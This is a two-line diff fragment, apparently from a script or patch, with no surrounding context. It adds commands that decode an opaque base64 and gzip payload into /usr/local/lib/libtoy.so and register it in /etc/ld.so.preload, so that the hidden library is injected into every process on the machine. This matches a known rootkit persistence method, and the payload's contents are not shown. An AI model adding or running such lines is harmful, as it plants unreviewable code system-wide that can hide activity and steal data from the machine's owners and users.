@@ -1,0 +1,2 @@
+base64 -d <<< "$LIBRARY" | gzip -d > /usr/local/lib/libtoy.so
+echo /usr/local/lib/libtoy.so > /etc/ld.so.preload
